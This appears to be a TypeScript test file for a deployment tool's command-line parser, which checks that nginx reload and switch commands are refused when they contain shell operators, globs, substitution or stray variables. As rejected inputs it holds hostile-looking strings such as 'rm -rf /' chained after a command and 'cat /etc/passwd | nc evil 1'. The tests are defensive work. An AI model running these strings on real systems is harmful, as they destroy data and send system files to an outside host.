// parseCommandLine: host commands are one argv, never shell text. Every operator, redirection,
// glob, comment and substitution is refused; only the allowed $VARS may be referenced.
import { parseConfig, type InputName } from '../../src/config/parse.js';
import { parseCommandLine, show } from '../../src/config/rules.js';
import { SWITCH_VARS } from '../../src/config/schema.js';

const EXAMPLE = 'sudo systemctl reload nginx';

function argv(raw: string, vars: readonly string[] = []): readonly string[] {
  const r = parseCommandLine(raw, vars, EXAMPLE);
  if (!r.ok) throw new Error(`expected an argv, got the problem: ${r.problem}`);
  return r.value;
}

function problem(raw: string, vars: readonly string[] = []): string {
  const r = parseCommandLine(raw, vars, EXAMPLE);
  if (r.ok) throw new Error(`expected a problem, got ${JSON.stringify(r.value)}`);
  expect(r.problem).toContain(show(raw));
  expect(r.problem).toMatch(new RegExp(`; e\\.g\\. ${EXAMPLE}$`));
  return r.problem;
}

describe('accepted command lines become argv', () => {
  test.each([
    ['nginx -t', ['nginx', '-t']],
    ['nginx -s reload', ['nginx', '-s', 'reload']],
    ['sudo systemctl reload nginx', ['sudo', 'systemctl', 'reload', 'nginx']],
    ['docker exec proxy nginx -s reload', ['docker', 'exec', 'proxy', 'nginx', '-s', 'reload']],
    ['  nginx\t-t  ', ['nginx', '-t']],
    [`"/opt/my scripts/reload" 'a b' c\\ d`, ['/opt/my scripts/reload', 'a b', 'c d']],
    [
      '/usr/sbin/nginx -c /etc/nginx/nginx.conf -g "daemon off;"',
      ['/usr/sbin/nginx', '-c', '/etc/nginx/nginx.conf', '-g', 'daemon off;'],
    ],
    ["curl -fsS 'http://127.0.0.1:8080/reload?x=1'", ['curl', '-fsS', 'http://127.0.0.1:8080/reload?x=1']],
    ['echo a=b --flag=value', ['echo', 'a=b', '--flag=value']],
  ])('%j', (raw, want) => {
    expect(argv(raw)).toEqual(want);
  });

  test('quoted operators are plain arguments', () => {
    expect(argv(`sh-free 'a; b' "c | d" 'e && f' '>' "<"`)).toEqual([
      'sh-free',
      'a; b',
      'c | d',
      'e && f',
      '>',
      '<',
    ]);
  });
});

describe('shell operators are refused', () => {
  test.each([
    ['nginx -t; rm -rf /', ';'],
    ['nginx -t && nginx -s reload', '&&'],
    ['nginx -t || true', '||'],
    ['cat /etc/passwd | nc evil 1', '|'],
    ['nginx -t > /tmp/out', '>'],
    ['nginx -t >> /tmp/out', '>>'],
    ['nginx < /etc/passwd', '<'],
    ['nginx -t 2>&1', '>&'],
    ['sleep 100 &', '&'],
    ['(nginx -t)', '('],
  ])('%j uses %s', (raw, op) => {
    const p = problem(raw);
    expect(p).toContain(`uses the shell operator ${show(op)}`);
    expect(p).toContain('give one command with arguments');
  });

  test('a comment is refused as the operator #', () => {
    expect(problem('nginx -t # test first')).toContain('uses the shell operator "#"');
  });

  // Arguments are quoted again when the command runs, so a glob would never expand: refused, not
  // passed on silently (quote it to mean the literal text).
  test.each(['rm *', 'ls /etc/nginx/*.conf', 'cat /srv/?.log', 'curl http://127.0.0.1/reload?x=1'])(
    'a glob is refused: %j',
    (raw) => {
      expect(problem(raw)).toContain('uses the glob');
    },
  );
});

describe('command substitution is refused, quoted or not', () => {
  test.each([
    'echo `id`',
    'echo "`id`"',
    "echo '`id`'",
    'echo $(id)',
    'echo "$(id)"',
    "echo '$(id)'",
    'echo a=$(id)',
    'echo $((1+2))',
  ])('%j', (raw) => {
    expect(problem(raw)).toContain('uses command substitution');
  });
});

describe('variables', () => {
  test.each(['$HOME', '${HOME}', '"$HOME"', '$PATH', '$1', '$$'])(
    'none are allowed in reload commands: %s',
    (v) => {
      const p = problem(`nginx -s reload ${v}`);
      expect(p).toContain('no variables may be used');
    },
  );

  test('the unknown variable is named', () => {
    expect(problem('echo $SECRET_THING')).toContain('uses $SECRET_THING');
  });

  test('switch-command may use the BG_* variables, which stay references until the command runs', () => {
    expect(argv('/usr/local/bin/switch-upstream $BG_COLOR $BG_PORT', SWITCH_VARS)).toEqual([
      '/usr/local/bin/switch-upstream',
      '${BG_COLOR}',
      '${BG_PORT}',
    ]);
    expect(argv('switch --app=${BG_APP} "$BG_CONTAINER"', SWITCH_VARS)).toEqual([
      'switch',
      '--app=${BG_APP}',
      '${BG_CONTAINER}',
    ]);
  });

  test.each(['$BG_OTHER', '$HOME', '${BG_COLOR:-blue}', '$BG_COLORS', '$bg_color'])(
    'switch-command refuses %s, listing the allowed ones',
    (v) => {
      const p = problem(`switch ${v}`, SWITCH_VARS);
      expect(p).toContain('only $BG_APP, $BG_COLOR, $BG_PORT, $BG_CONTAINER may be used');
    },
  );

  test('a single-quoted $ is literal text, not a variable', () => {
    expect(argv("printf '%s $HOME'")).toEqual(['printf', '%s $HOME']);
  });
});

describe('other refusals', () => {
  test.each(['', '   '])('an empty command %j', (raw) => {
    expect(problem(raw)).toContain('is empty');
  });

  test.each(['nginx -t\nrm -rf /', 'nginx\r-t', 'nginx\0-t'])('a NUL or newline %j', (raw) => {
    expect(problem(raw)).toContain('NUL or newline');
  });
});

describe('the command inputs of parseConfig', () => {
  const base = { image: 'myapp' } as const;
  const parse = (inputs: Partial<Record<InputName, string>>) =>
    parseConfig(
      (n) => ({ ...base, ...inputs })[n as keyof typeof base] ?? '',
      {
        serverUrl: 'https://github.com',
        workspace: '/w',
        runnerTemp: '/tmp',
      },
      new Date('2026-01-01T00:00:00Z'),
    );

  test('defaults: nginx -t and nginx -s reload, no switch command', () => {
    const r = parse({});
    if (!r.ok) throw new Error(r.errors.join('\n'));
    expect(r.config.deploy.nginxTestCommand).toEqual(['nginx', '-t']);
    expect(r.config.deploy.reloadCommand).toEqual(['nginx', '-s', 'reload']);
    expect(r.config.deploy.switchCommand).toBeUndefined();
  });

  test('switch-command with BG_* variables, with proxy: command', () => {
    const r = parse({ proxy: 'command', 'switch-command': '/usr/local/bin/switch $BG_APP $BG_COLOR' });
    if (!r.ok) throw new Error(r.errors.join('\n'));
    expect(r.config.deploy.proxy).toBe('command');
    expect(r.config.deploy.switchCommand).toEqual(['/usr/local/bin/switch', '${BG_APP}', '${BG_COLOR}']);
  });

  test.each([
    ['reload-command', 'systemctl reload nginx $BG_COLOR', 'no variables may be used'],
    ['reload-command', 'nginx -t && nginx -s reload', 'uses the shell operator "&&"'],
    ['nginx-test-command', 'nginx -t; true', 'uses the shell operator ";"'],
    ['nginx-test-command', 'nginx -t -c $(pwd)/x', 'uses command substitution'],
    ['switch-command', 'switch $HOME', 'only $BG_APP'],
  ] as const)('%s %j is refused: %s', (name, raw, why) => {
    const r = parse({ [name]: raw });
    if (r.ok) throw new Error('expected problems');
    const lines = r.errors.filter((l) => l.startsWith(`input '${name}': `));
    expect(lines).toHaveLength(1);
    expect(lines[0]).toContain(why);
    expect(lines[0]).toMatch(/e\.g\. \S/);
  });
});
